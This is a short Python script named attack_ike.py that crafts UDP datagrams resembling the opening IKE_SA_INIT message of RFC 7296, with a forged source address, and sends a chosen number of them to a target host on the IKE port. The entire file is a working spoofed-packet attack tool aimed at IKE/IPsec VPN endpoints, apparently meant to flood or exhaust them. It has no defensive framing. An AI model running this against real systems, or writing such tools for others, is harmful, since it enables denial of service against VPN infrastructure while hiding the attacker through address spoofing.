"""Send UDP datagrams that look like the beginning of IKE_SA_INIT (RFC 7296
3.1) with any source address.

usage: attack_ike.py SOURCE DESTINATION [COUNT [PORT]]
"""

import os
import struct
import sys

import packets

IKE_SA_INIT, INITIATOR, SA = 34, 0x08, 33


def main(source, destination, count="1", port="500"):
    for _ in range(int(count)):
        body = os.urandom(64)
        header = os.urandom(8) + bytes(8) + struct.pack(
            "!BBBBII", SA, 0x20, IKE_SA_INIT, INITIATOR, 0, 28 + len(body))
        datagram = packets.udp(source, destination, int(port), int(port),
                               header + body)
        packets.send_ip(packets.ip(source, destination, packets.UDP,
                                   datagram), destination)


main(*sys.argv[1:])
